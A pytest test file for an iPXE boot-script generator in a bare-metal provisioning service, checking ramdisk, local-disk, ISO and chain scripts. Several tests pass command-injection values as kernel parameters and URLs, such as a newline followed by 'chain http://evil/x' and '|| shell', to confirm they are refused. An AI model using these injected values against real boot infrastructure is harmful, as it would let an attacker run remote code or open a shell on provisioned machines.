"""The iPXE scripts of the boot service: one per desired boot, and no way to inject commands."""

from __future__ import annotations

import re

import pytest

from services.boot import ipxe
from services.common.bootconfig.entry import BootEntry
from services.common.bootconfig.params import (
    UnsafeScriptValue,
    agent_kernel_params,
    check_safe,
)

KERNEL = "http://10.0.0.1:8080/files/deploy.kernel"
RAMDISK = "http://10.0.0.1:8080/files/deploy.initramfs"
PARAMS = "enclume.api_url=http://10.0.0.1:6385 enclume.node=1be26c0b console=ttyS0,115200"


def lines(script: str) -> list[str]:
    return script.splitlines()


def assert_well_formed(script: str) -> None:
    """#!ipxe first, and every goto lands on a label of the script."""
    assert script.startswith("#!ipxe\n") and script.endswith("\n")
    labels = {line[1:] for line in lines(script) if line.startswith(":")}
    targets = set(re.findall(r"goto (\S+)", script))
    assert targets <= labels, f"goto without label: {targets - labels}"


def test_ramdisk_script_loads_kernel_and_named_ramdisk_with_the_parameters() -> None:
    script = ipxe.ramdisk_script(KERNEL, RAMDISK, PARAMS, "node 1be26c0b")
    assert_well_formed(script)
    kernel_line = next(line for line in lines(script) if line.startswith("kernel "))
    assert kernel_line == (f"kernel {KERNEL} initrd=ramdisk {PARAMS} BOOTIF=${{netX/mac}} "
                           f"|| goto enclume_failed")
    assert f"initrd --name ramdisk {RAMDISK} || goto enclume_failed" in lines(script)
    assert "boot || goto enclume_failed" in lines(script)
    # the kernel and ramdisk are fetched before booting, after the previous attempt is freed
    order = [lines(script).index(x) for x in ("imgfree", kernel_line,
                                               f"initrd --name ramdisk {RAMDISK} || goto "
                                               f"enclume_failed", "boot || goto enclume_failed")]
    assert order == sorted(order)


def test_ramdisk_script_retries_a_bounded_number_of_times_then_reboots() -> None:
    script = ipxe.ramdisk_script(KERNEL, RAMDISK, "", "node x")
    body = lines(script)
    assert "set enclume_attempt:int32 0" in body
    assert body.index(":enclume_fetch") < body.index("inc enclume_attempt")
    assert (f"iseq ${{enclume_attempt}} {ipxe.DOWNLOAD_ATTEMPTS} && goto enclume_give_up ||"
            in body)
    assert f"sleep {ipxe.RETRY_PAUSE_S}" in body and "goto enclume_fetch" in body
    assert body[-1] == "reboot"
    # empty parameters leave no double space on the kernel line
    assert f"kernel {KERNEL} initrd=ramdisk BOOTIF=${{netX/mac}} || goto enclume_failed" in body


def test_local_boot_bios_boots_the_first_disk_and_uefi_returns_to_the_firmware() -> None:
    bios = ipxe.local_script("bios", "node x")
    assert_well_formed(bios)
    assert "sanboot --no-describe --drive 0x80 || goto enclume_failed" in lines(bios)
    assert lines(bios)[-1] == "exit 1"
    uefi = ipxe.local_script("uefi", "node x")
    assert_well_formed(uefi)
    assert lines(uefi)[-1] == "exit" and "sanboot" not in uefi
    with pytest.raises(UnsafeScriptValue, match="boot mode"):
        ipxe.local_script("legacy", "node x")


def test_script_for_each_desired_boot() -> None:
    ramdisk = BootEntry(mac="52:54:00:00:00:01", node_uuid="a", mode="ramdisk",
                        boot_mode="uefi", kernel=KERNEL, ramdisk=RAMDISK, kernel_params=PARAMS)
    assert ipxe.script_for(ramdisk, "node a", "bios") == \
        ipxe.ramdisk_script(KERNEL, RAMDISK, PARAMS, "node a")
    local = BootEntry(mac="52:54:00:00:00:01", node_uuid="a", mode="local", boot_mode="bios")
    assert ipxe.script_for(local, "node a", "uefi") == ipxe.local_script("bios", "node a")
    # a local boot without a boot mode takes the configured default
    unsure = BootEntry(mac="52:54:00:00:00:01", node_uuid="a", mode="local")
    assert ipxe.script_for(unsure, "node a", "uefi") == ipxe.local_script("uefi", "node a")
    assert lines(ipxe.script_for(None, "node a", "bios")) == [
        "#!ipxe", "# Enclume: no boot is planned for node a", "exit"]
    with pytest.raises(UnsafeScriptValue, match="unknown boot mode"):
        ipxe.script_for(BootEntry(mac="m", node_uuid="a", mode="rescue"), "node a", "bios")
    with pytest.raises(UnsafeScriptValue, match="kernel URL"):
        ipxe.script_for(BootEntry(mac="m", node_uuid="a", mode="ramdisk", ramdisk=RAMDISK),
                        "node a", "bios")


def test_agent_kernel_parameters_say_where_the_api_is_and_who_boots() -> None:
    assert agent_kernel_params("http://10.0.0.1:6385/", "1be26c0b", " console=ttyS0 ") == \
        "enclume.api_url=http://10.0.0.1:6385 enclume.node=1be26c0b console=ttyS0"
    assert agent_kernel_params("http://10.0.0.1:6385", None) == \
        "enclume.api_url=http://10.0.0.1:6385 enclume.discovery=1"
    with pytest.raises(UnsafeScriptValue):
        agent_kernel_params("http://10.0.0.1:6385", "x", "a\nchain http://evil")


@pytest.mark.parametrize("params", [
    "quiet\nchain http://evil/x",       # a second command line
    "quiet || shell",                  # command chaining
    "quiet && shell",
    "ip=${ip}",                        # setting expansion
    'quiet "',                         # quoting swallowing "|| goto"
    "quiet \\",
    "café",                            # not ASCII
    "quiet\x00",
])
def test_kernel_parameters_that_would_change_the_script_are_refused(params: str) -> None:
    with pytest.raises(UnsafeScriptValue):
        ipxe.ramdisk_script(KERNEL, RAMDISK, params, "node x")
    with pytest.raises(UnsafeScriptValue):
        check_safe("kernel parameters", params)


@pytest.mark.parametrize("url", [
    "http://10.0.0.1/k ernel", "http://10.0.0.1/k\nshell", "ftp://10.0.0.1/kernel",
    "/srv/kernel", "http://10.0.0.1/${x}", "",
])
def test_unusable_urls_are_refused(url: str) -> None:
    with pytest.raises(UnsafeScriptValue):
        ipxe.ramdisk_script(url, RAMDISK, "", "node x")
    with pytest.raises(UnsafeScriptValue):
        ipxe.ramdisk_script(KERNEL, url, "", "node x")


def test_script_url_and_the_chain_script_ask_ipxe_for_the_boot_mac() -> None:
    assert ipxe.script_url("http://10.0.0.1:8080/") == \
        "http://10.0.0.1:8080/boot.ipxe?mac=${netX/mac}"
    assert lines(ipxe.chain_script("http://10.0.0.1:8080")) == [
        "#!ipxe", "chain http://10.0.0.1:8080/boot.ipxe?mac=${netX/mac}"]


def test_a_diskless_instance_boots_its_kernel_and_ramdisk_or_its_iso() -> None:
    from services.common.bootconfig.entry import boot_entry

    entry = boot_entry("52:54:00:00:00:09", "n-9", {
        "mode": "instance", "kernel": "http://files/vmlinuz", "ramdisk": "http://files/initrd",
        "kernel_params": "enclume.node=n-9 console=ttyS0"})
    assert entry is not None and entry.mode == "instance" and entry.boot_iso is None
    script = ipxe.script_for(entry, "node n-9", "bios")
    assert "# Enclume: instance kernel and ramdisk of node n-9" in script
    assert ("kernel http://files/vmlinuz initrd=ramdisk enclume.node=n-9 console=ttyS0 "
            "BOOTIF=${netX/mac} || goto enclume_failed") in script
    assert "initrd --name ramdisk http://files/initrd || goto enclume_failed" in script
    assert "deploy ramdisk" not in script

    iso = boot_entry("52:54:00:00:00:09", "n-9", {"mode": "instance",
                                                  "boot_iso": "http://files/live.iso"})
    assert iso is not None and iso.kernel is None
    iso_script = ipxe.script_for(iso, "node n-9", "bios")
    assert "sanboot --no-describe http://files/live.iso || goto enclume_failed" in iso_script
    assert "kernel " not in iso_script
    # neither files nor an ISO: no answer rather than a script that cannot boot
    assert boot_entry("52:54:00:00:00:09", "n-9", {"mode": "instance"}) is None
    with pytest.raises(UnsafeScriptValue):
        ipxe.iso_script("http://files/live.iso || shell", "node n-9")
